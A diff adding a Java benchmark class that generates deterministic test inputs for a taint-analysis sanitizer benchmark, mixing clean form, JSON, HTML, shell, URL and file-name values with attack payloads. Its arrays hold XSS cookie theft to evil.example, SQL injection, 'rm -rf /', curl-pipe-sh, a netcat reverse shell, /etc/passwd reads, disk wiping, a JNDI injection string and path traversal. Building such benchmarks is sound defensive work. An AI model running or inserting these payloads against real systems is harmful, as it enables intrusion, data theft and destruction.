@@ -0,0 +1,270 @@
+package taintanalysis.benchmarks;
+
+import java.util.Random;
+
+/**
+ * <h1> SanitizerCorpus </h1>
+ *
+ * This class generates the inputs used by the benchmarks, mixing clean values with attack payloads.
+ * The generation is deterministic, so that every run measures the same inputs.
+ */
+public class SanitizerCorpus {
+
+    /**
+     * Number of inputs generated for each kind of data.
+     */
+    public static final int SIZE = 64;
+
+    private static final String[] WORDS = {
+            "order", "customer", "invoice", "shipping", "address", "payment", "status", "delivered",
+            "pending", "Rome", "Milan", "Catania", "product", "quantity", "discount", "notes", "review",
+            "excellent", "support", "ticket", "résumé", "naïve", "café"
+    };
+
+    private static final String[] NAMES = {
+            "Marco Rossi", "Giulia Bianchi", "John O'Connor", "Anna-Maria Verdi", "Luca De Santis", "Chloé Martin"
+    };
+
+    private static final String[] FORM_ATTACKS = {
+            "<script>alert(1)</script>",
+            "' OR 1=1; DROP TABLE users; --",
+            "<img src=x onerror=alert(document.cookie)>",
+            "javascript:alert('xss')",
+            "admin'--",
+            "1; SELECT * FROM accounts WHERE 1=1",
+            "<svg onload=fetch('//evil.example/'+document.cookie)>"
+    };
+
+    private static final String[] SHELL_ATTACKS = {
+            "; rm -rf / --no-preserve-root",
+            "$(curl -s http://evil.example/x.sh | sh)",
+            "`cat /etc/passwd`",
+            "| nc evil.example 4444 -e /bin/sh",
+            "&& sudo chmod 777 /etc/shadow",
+            "../../../../etc/passwd",
+            "> /dev/sda; dd if=/dev/zero of=/dev/sda"
+    };
+
+    private static final String[] REMOTE_ATTACKS = {
+            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+            "..%2F..%2F..%2Fetc%2Fpasswd",
+            "%27%20OR%201%3D1%20--",
+            "%00%0d%0aSet-Cookie:%20session=evil",
+            "${jndi:ldap://evil.example/a}"
+    };
+
+    private static final String[] FILE_ATTACKS = {
+            "../../etc/passwd",
+            "..\\..\\windows\\system32\\cmd.exe",
+            "shell.php%00.jpg",
+            "invoice\u0000.pdf.exe",
+            "~/.ssh/authorized_keys",
+            "<script>.html"
+    };
+
+    private final Random random;
+    private final double attackRatio;
+
+    /**
+     * Instantiates a corpus generator.
+     *
+     * @param seed the seed of the generator
+     * @param attackRatio the fraction of inputs containing attack payloads
+     */
+    public SanitizerCorpus(long seed, double attackRatio) {
+        this.random = new Random(seed);
+        this.attackRatio = attackRatio;
+    }
+
+    /**
+     * Returns short values as submitted by the fields of a web form.
+     *
+     * @return string array
+     */
+    public String[] formFields() {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            String value = switch (random.nextInt(4)) {
+                case 0 -> pick(NAMES);
+                case 1 -> "user" + random.nextInt(10_000) + "@example.com";
+                case 2 -> random.nextInt(200) + " " + pick(WORDS) + " Street, " + pick(WORDS);
+                default -> sentence(3 + random.nextInt(8));
+            };
+            inputs[i] = attack() ? value + " " + pick(FORM_ATTACKS) : value;
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns Json documents of about 4 KB, as returned by a REST API.
+     *
+     * @return string array
+     */
+    public String[] jsonDocuments() {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            var json = new StringBuilder("{\"page\":").append(i).append(",\"items\":[");
+            for (int item = 0; json.length() < 3800; item++) {
+                if (item > 0) {
+                    json.append(',');
+                }
+                json.append("{\"id\":").append(random.nextInt(1_000_000))
+                        .append(",\"name\":\"").append(jsonValue(pick(NAMES)))
+                        .append("\",\"price\":").append(random.nextInt(10_000) / 100.0)
+                        .append(",\"active\":").append(random.nextBoolean())
+                        .append(",\"tags\":[\"").append(pick(WORDS)).append("\",\"").append(pick(WORDS))
+                        .append("\"],\"notes\":\"").append(jsonValue(maybeAttack(sentence(6), FORM_ATTACKS)))
+                        .append("\"}");
+            }
+            inputs[i] = json.append("]}").toString();
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns HTML pages of a few KB, containing scripts and event handlers when they are malicious.
+     *
+     * @return string array
+     */
+    public String[] htmlDocuments() {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            var html = new StringBuilder("<html><head><title>").append(pick(WORDS)).append("</title></head><body>");
+            while (html.length() < 3000) {
+                html.append("<div class=\"row\"><h2>").append(pick(WORDS)).append("</h2><p>")
+                        .append(sentence(12)).append(" <a href=\"https://example.com/").append(pick(WORDS))
+                        .append("\">").append(pick(WORDS)).append("</a></p></div>");
+                if (attack()) {
+                    html.append("<script>document.location='https://evil.example/?c='+document.cookie</script>")
+                            .append("<img src=x onerror=alert(1)>");
+                }
+            }
+            inputs[i] = html.append("</body></html>").toString();
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns long argument lists, as passed to a command line tool.
+     *
+     * @return string array
+     */
+    public String[] shellArguments() {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            var args = new StringBuilder();
+            while (args.length() < 1000) {
+                args.append("--").append(pick(WORDS)).append('=').append(pick(WORDS)).append(random.nextInt(100))
+                        .append(" data/").append(pick(WORDS)).append(".csv -v ");
+                if (attack()) {
+                    args.append(pick(SHELL_ATTACKS)).append(' ');
+                }
+            }
+            inputs[i] = args.toString();
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns plain text streams of the given length, such as logs or uploaded documents.
+     *
+     * @param length the approximate length of each text
+     * @return string array
+     */
+    public String[] textStreams(int length) {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            var text = new StringBuilder();
+            while (text.length() < length) {
+                text.append(maybeAttack(sentence(10), FORM_ATTACKS)).append(".\n");
+            }
+            inputs[i] = text.toString();
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns URL-encoded payloads of the given length, as received from a remote service.
+     *
+     * @param length the approximate length of each payload
+     * @return string array
+     */
+    public String[] remotePayloads(int length) {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            var payload = new StringBuilder();
+            while (payload.length() < length) {
+                payload.append(pick(WORDS)).append('=').append(pick(WORDS)).append("+").append(random.nextInt(1000))
+                        .append('&');
+                if (attack()) {
+                    payload.append(pick(REMOTE_ATTACKS)).append('&');
+                }
+            }
+            inputs[i] = payload.toString();
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns the bodies of e-mail messages, containing links and HTML comments.
+     *
+     * @return string array
+     */
+    public String[] emailBodies() {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            var body = new StringBuilder("Dear ").append(pick(NAMES)).append(",\n");
+            while (body.length() < 400) {
+                body.append(sentence(10)).append(". ");
+                if (attack()) {
+                    body.append("<!-- tracking --><a href=\"javascript:steal()\">click here</a> ")
+                            .append("http://evil.example/login?user=").append(pick(WORDS)).append(' ');
+                } else {
+                    body.append("See https://example.com/").append(pick(WORDS)).append(' ');
+                }
+            }
+            inputs[i] = body.append("\nBest regards").toString();
+        }
+        return inputs;
+    }
+
+    /**
+     * Returns the names of uploaded files.
+     *
+     * @return string array
+     */
+    public String[] fileNames() {
+        String[] inputs = new String[SIZE];
+        for (int i = 0; i < SIZE; i++) {
+            inputs[i] = attack()
+                    ? pick(FILE_ATTACKS)
+                    : pick(WORDS) + "_" + random.nextInt(2030) + (random.nextBoolean() ? ".pdf" : " copy.jpg");
+        }
+        return inputs;
+    }
+
+    private boolean attack() {
+        return random.nextDouble() < attackRatio;
+    }
+
+    private String maybeAttack(String value, String[] attacks) {
+        return attack() ? value + " " + pick(attacks) : value;
+    }
+
+    private String pick(String[] values) {
+        return values[random.nextInt(values.length)];
+    }
+
+    private String sentence(int words) {
+        var sentence = new StringBuilder(pick(WORDS));
+        for (int i = 1; i < words; i++) {
+            sentence.append(' ').append(pick(WORDS));
+        }
+        return sentence.toString();
+    }
+
+    private static String jsonValue(String value) {
+        return value.replace("\\", "\\\\").replace("\"", "\\\"");
+    }
+
+}